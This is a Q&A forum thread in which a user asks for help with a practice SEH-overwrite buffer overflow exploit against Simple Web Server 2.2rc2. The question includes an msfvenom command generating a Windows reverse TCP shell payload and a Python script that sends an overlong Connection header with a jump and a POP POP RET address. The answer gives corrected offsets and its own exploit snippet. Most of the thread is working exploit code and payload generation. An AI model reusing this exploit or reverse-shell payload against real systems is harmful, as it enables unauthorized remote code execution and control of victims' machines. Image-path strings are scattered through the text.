I am practicing writing exploit for Simple Web Server 2.2rc2.I was able to:

  • find proper offset to overwrite SE Handler and Next SEH
  • find POP,POP,RET address

My problem is that, I can't execute my shell (generated by msfvenom:

msfvenom --platform windows -a x86 -p windows/shell_reverse_tcp LHOST=IP LPORT=80 EXITFUNC=thread -b "\x00\x0a\x0d" -f python -v shellcode

I have tried to:

  • place my code directly after SE Handler
  • prepend shellcode with stack adjustment
  • adding nopsled before shellcode

All I see in debugger is that, my shellcode crash app.

Here is my current code:import socket,struct,os

ip = ""
port = 80

rsp_offset = 2048
seh_offset = 2280
buf_size   = 2400

#shellcode= # generated by msfvenom

buf = ""
buf+= "A" * (rsp_offset-len(buf))
buf+= "BBBB" # EIP
buf+= "C" * (seh_offset-len(buf))
buf+= "\xeb\x07\x90\x90" # Next SEH: JMP +7 to shellcode
buf+= struct.pack("<I", 0x6FC5447E) #POP,POP,RET
buf+= "\x90\x83\xec\x20" # stack adjustment
buf+= shellcode
#buf+= "F" * (buf_size-len(buf))

req = "GET / HTTP/1.1\r\n"
req += "Host:\r\n"
req += "Connection:" + buf + "\r\n"
req += "\r\n"

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((ip, port))

Can someone give me a hint, what I am doing wrong? App is available here

1 Answer 1


Are your offsets correct? I had a quick look and I got these offsets when running it through immunity:[junk, 2260 bytes][Jump to exploit, 4 bytes][pop pop ret, 4 bytes][exploit, 728 bytes]

My python snippet is:

exploit = 'GET / HTTP/1.0\r\n'
exploit += 'Host:\r\n'
junk = '\x41' * 2260
jmp = '\xeb\x0b\x90\x90'
ppr = '\x7e\x44\xc5\x6f'
break = '\xcc' * 728
exploit += 'Connection: ' + junk + jmp + ppr + break + '\r\n\r\n'


Edit: I see that you have debugged and your shell code crashes the app, apologies!

  • I now see... There isn't enough buffer space at the end of the payload. Feb 2, 2019 at 9:27

Your Answer

By clicking “Post Your Answer”, you agree to our terms of service, privacy policy and cookiepolicy

Not the answeryou're looking for? Browse otherquestions tagged or ask your own question.